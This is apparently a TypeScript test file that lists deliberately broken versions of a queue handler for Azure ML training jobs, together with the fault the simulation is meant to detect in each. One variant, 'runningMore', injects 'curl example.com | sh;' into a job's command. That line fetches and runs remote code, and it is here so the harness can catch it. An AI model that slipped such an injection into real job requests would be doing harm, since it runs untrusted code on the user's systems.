import { type Broken, type Fault, GUARANTEED, type ViolationKind } from '../../lib/simulation';
import type { Handle } from '../../lib/simulation/parts/simulated-program';
import type { Copy } from '../../lib/trigger/program/copies';
import { type Dependencies, handle } from '../../lib/trigger/program/handle';
import type { Message } from '../../lib/trigger/program/received-message';

/** A way to break what is deployed, and how that is found. */
export interface BrokenOne {
  readonly broken: Broken;
  /** What is wrong then. */
  readonly finds: ViolationKind;
  /** All that may go wrong: what it takes for this one to be found. @default - everything that every message survives */
  readonly faults?: readonly Fault[];
  /** What happens often. */
  readonly likely?: readonly Fault[];
}

const MINUTE = 60_000;

/** The deployed program with other surroundings. */
const among = (change: (deps: Dependencies, message: Message) => Partial<Dependencies>): Handle =>
  ((message, deps) => handle(message, { ...deps, ...change(deps, message) })) satisfies Handle;

/** Names of jobs that begin in another way. */
const named = (part: (deps: Dependencies, message: Message) => unknown): Handle =>
  among((deps, message) => ({
    settings: { ...deps.settings, source: `${deps.settings.source}${part(deps, message)}` },
  }));

/** What is sent goes another way. */
const sending = (
  change: (queue: string, versions: readonly Copy[], deps: Dependencies) => readonly Copy[] | 'not',
): Handle =>
  among((deps) => ({
    queues: {
      ...deps.queues,
      send: async (queue, versions) => {
        const changed = change(queue, versions, deps);
        if (changed !== 'not') await deps.queues.send(queue, changed);
      },
    },
  }));

/** What is sent has another id. */
const sendingUnder = (idOf: (message: Message, copy: Copy) => string): Handle =>
  among((deps, message) => ({
    queues: {
      ...deps.queues,
      send: (queue, versions) =>
        deps.queues.send(
          queue,
          versions.map((copy) => ({ ...copy, messageId: idOf(message, copy) })),
        ),
    },
  }));

/** What waits nowhere: the message is given back, to be delivered again. */
const givingBack = sending((queue, versions, { settings }) => {
  if (queue === settings.retryQueue) throw new Error('given back at once');
  return versions;
});

/** A process that knows what it has started, and names jobs anyhow. */
function rememberingProcesses(): Handle {
  const started = new Map<string, number>();
  let count = 0;
  // A lock is thought to keep others away: what is under way has not started.
  return async (message, deps) => {
    const own = started.get(String(message.messageId)) ?? count++;
    const settings = { ...deps.settings, source: `${deps.settings.source}${own}` };
    const outcome = await handle(message, { ...deps, settings });
    started.set(String(message.messageId), own);
    return outcome;
  };
}

/** Whoever finds its job archived starts another one. */
function startingArchivedAgain(): Handle {
  const archived = new Set<string>();
  return among((deps) => ({
    request: (async (url: string, init: RequestInit) => {
      const [, name = ''] = /\/jobs\/([^?]+)/.exec(url) ?? [];
      const other = url.replace(name, `${name}-again`);
      if (archived.has(name)) return deps.request(other, init);
      const answer = await deps.request(url, init);
      if (!(await answer.text()).includes('"isArchived":true')) return answer;
      archived.add(name);
      return deps.request(other, init);
    }) as typeof fetch,
  }));
}

/** A template that a message names and this program does not have is taken for the first that it has. */
const takingAnyTemplate: Handle = (message, deps) => {
  const json = JSON.parse(String(message.body)) as Readonly<Record<string, unknown>>;
  const own = deps.data.templates;
  if (typeof json.template !== 'string' || Object.hasOwn(own, json.template)) return handle(message, deps);
  const template = Object.keys(own)[0];
  return handle({ ...message, body: Buffer.from(JSON.stringify({ ...json, template })) }, deps);
};

/** Whatever job has the name is taken for the own. */
const takingAnyJob: Handle = async (message, deps) => {
  const outcome = await handle(message, deps);
  const [, job = ''] = outcome.kind === 'rejected' ? (/^job (\S+) exists/.exec(outcome.details[0] ?? '') ?? []) : [];
  return job === '' ? outcome : { kind: 'already-started', job };
};

/** That nothing is heard of a job is taken for one that has started. */
const takingSilenceForAJob: Handle = async (message, deps) => {
  let job = '';
  const queues = { ...deps.queues, send: async () => undefined };
  const log: Dependencies['log'] = (entry) => {
    job = entry.job ?? '';
  };
  const outcome = await handle(message, { ...deps, queues, log });
  return outcome.kind === 'waiting' ? { kind: 'started', job } : outcome;
};

/** Where an error is heard, it is tried under another name. */
const tryingAnotherName: Handle = async (message, deps) => {
  // Only the second try says where the message waits.
  const quiet = { ...deps.queues, send: async () => undefined };
  const outcome = await handle(message, { ...deps, queues: quiet });
  if (outcome.kind === 'started' || outcome.kind === 'already-started') return outcome;
  return handle(message, { ...deps, settings: { ...deps.settings, source: `${deps.settings.source}x` } });
};

/** Whether a copy was taken is not looked at. */
const notLooking = among((deps) => ({
  queues: { ...deps.queues, send: (queue, versions) => deps.queues.send(queue, versions).catch(() => undefined) },
}));

/** What the template says is not all that runs. */
const runningMore = among((deps) => ({
  request: ((url: string, init: RequestInit) => {
    const body = String(init.body).replace('"command":"', '"command":"curl example.com | sh; ');
    return deps.request(url, { ...init, ...(init.body !== undefined && { body }) });
  }) as typeof fetch,
}));

/** By what is broken. Each is found with nothing else going wrong than its own faults, where it has some. */
export const BROKEN = new Map<string, BrokenOne>([
  [
    'the name of a job depends on the delivery',
    { broken: { handleOf: () => named((_, { deliveryCount }) => deliveryCount) }, finds: 'two-jobs' },
  ],
  ['a message is settled before its job is started', { broken: { host: { completes: 'before' } }, finds: 'lost' }],
  [
    'a message that cannot be started now is forgotten',
    { broken: { handleOf: () => sending(() => 'not') }, finds: 'lost' },
  ],
  [
    'a job runs more than its template says',
    { broken: { handleOf: () => runningMore }, finds: 'not-allowed', faults: [] },
  ],
  [
    'that a message came twice is left to the window of duplicates: the name has the day',
    {
      broken: { handleOf: () => named(({ now }) => Math.floor(now() / (24 * 60 * MINUTE))) },
      finds: 'two-jobs',
      faults: [],
      likely: ['sent-twice'],
    },
  ],
  [
    'a message is given back while Azure ML is down',
    { broken: { handleOf: () => givingBack }, finds: 'died', faults: [], likely: ['down'] },
  ],
  [
    'a message is given back while a right is missing',
    { broken: { handleOf: () => givingBack }, finds: 'died', faults: [], likely: ['no-right'] },
  ],
  [
    'a message is given back while there is no quota',
    { broken: { handleOf: () => givingBack }, finds: 'died', faults: [], likely: ['no-quota'] },
  ],
  [
    'the lock is all that keeps a message from starting twice',
    {
      broken: { handleOf: rememberingProcesses },
      finds: 'two-jobs',
      faults: ['two-instances'],
      likely: ['slow-program'],
    },
  ],
  [
    'the same id with other parameters is taken for the first',
    { broken: { handleOf: () => takingAnyJob }, finds: 'wrong-job', faults: [], likely: ['same-id-other-request'] },
  ],
  [
    'what is set aside is sent as a whole, whatever its size',
    {
      broken: { handleOf: () => sending((_, versions) => versions.slice(0, 1)) },
      finds: 'died',
      faults: [],
      likely: ['not-allowed'],
    },
  ],
  [
    'a copy that waits has lost the properties of its message',
    {
      broken: {
        handleOf: () =>
          sending((_, versions) =>
            versions.map(({ applicationProperties: { trainingRetries = null, trainingMessageId = '' }, ...copy }) => ({
              ...copy,
              applicationProperties: { trainingRetries, trainingMessageId },
            })),
          ),
      },
      finds: 'refused',
      faults: [],
      likely: ['throttled', 'down'],
    },
  ],
  [
    'a copy has another id at each delivery of its message',
    {
      broken: { handleOf: () => sendingUnder(({ deliveryCount }, { messageId }) => `${deliveryCount} ${messageId}`) },
      finds: 'multiplied',
      faults: ['crash-after'],
      likely: ['down'],
    },
  ],
  [
    'a copy that is set aside has another id at each delivery of its message',
    {
      broken: { handleOf: () => sendingUnder(({ deliveryCount }, { messageId }) => `${deliveryCount} ${messageId}`) },
      finds: 'multiplied',
      faults: ['crash-after'],
      likely: ['not-allowed'],
    },
  ],
  [
    'a copy has the id of its message: the next one of it is dropped',
    {
      broken: { handleOf: () => sendingUnder(({ messageId }) => String(messageId)) },
      finds: 'lost',
      faults: [],
      likely: ['down'],
    },
  ],
  [
    'a dead letter of the queue of retries is sent there again under the id that it had there',
    {
      broken: { resendsUnder: 'its-id' },
      finds: 'lost',
      faults: [],
      likely: ['down', 'queue-full', 'dead-letters-resent'],
    },
  ],
  [
    'another version of the program names jobs in another way',
    {
      broken: { handleOf: () => named(({ data }) => JSON.stringify(data).length) },
      finds: 'two-jobs',
      faults: [],
      likely: ['two-versions', 'sent-twice', 'other-message-same-request'],
    },
  ],
  [
    'the name has the minute of the own clock',
    {
      broken: { handleOf: () => named(({ now }) => Math.floor(now() / MINUTE)) },
      finds: 'two-jobs',
      faults: ['two-instances'],
      likely: ['clock-skew', 'lock-lost', 'slow-program'],
    },
  ],
  [
    'what comes once more from another region starts once more',
    {
      broken: { handleOf: () => named(({ now }) => Math.floor(now() / MINUTE)) },
      finds: 'two-jobs',
      faults: [],
      likely: ['region-lost'],
    },
  ],
  [
    'a program of a subscription that was paused does not go on',
    {
      broken: { host: { completes: 'after', reopens: false } },
      finds: 'stuck',
      faults: [],
      likely: ['paused'],
    },
  ],
  [
    'what is sent again is first taken away',
    {
      broken: { resends: 'takes-first' },
      finds: 'lost',
      faults: [],
      likely: ['set-aside-resent', 'resend-stopped', 'not-allowed'],
    },
  ],
  [
    'a dead letter that is sent again is first taken away',
    {
      broken: { resends: 'takes-first' },
      finds: 'lost',
      faults: ['crash-before', 'crash-after', 'answer-lost'],
      likely: ['dead-letters-resent', 'resend-stopped', 'queue-full', 'not-allowed'],
    },
  ],
  [
    'a template that a program has not is taken for one that it has',
    { broken: { handleOf: () => takingAnyTemplate }, finds: 'not-allowed', faults: [], likely: ['default-rule-back'] },
  ],
  [
    'a job that is archived is started again',
    {
      broken: { handleOf: startingArchivedAgain },
      finds: 'two-jobs',
      faults: [],
      likely: ['job-archived', 'sent-twice', 'other-message-same-request'],
    },
  ],
  [
    'no answer is taken for a job',
    {
      broken: { handleOf: () => takingSilenceForAJob },
      finds: 'lost',
      faults: ['request-lost'],
      likely: ['server-error', 'error-after-work'],
    },
  ],
  [
    'what was answered with an error is tried under another name',
    {
      broken: { handleOf: () => tryingAnotherName },
      finds: 'two-jobs',
      faults: [],
      likely: ['request-late'],
    },
  ],
  [
    'whether a queue took a copy is not looked at',
    { broken: { handleOf: () => notLooking }, finds: 'lost', faults: [], likely: ['bus-busy', 'down'] },
  ],
  [
    'the end of a job is told under another id at each try',
    {
      broken: { eventId: ({ messageId }, attempt) => `${messageId}-${attempt}` },
      finds: 'result',
      faults: [],
      likely: ['result-twice'],
    },
  ],
]);

/** All that a broken one is told with. */
export const optionsOf = ({ broken, faults = GUARANTEED, likely = [] }: BrokenOne) => ({ ...broken, faults, likely });
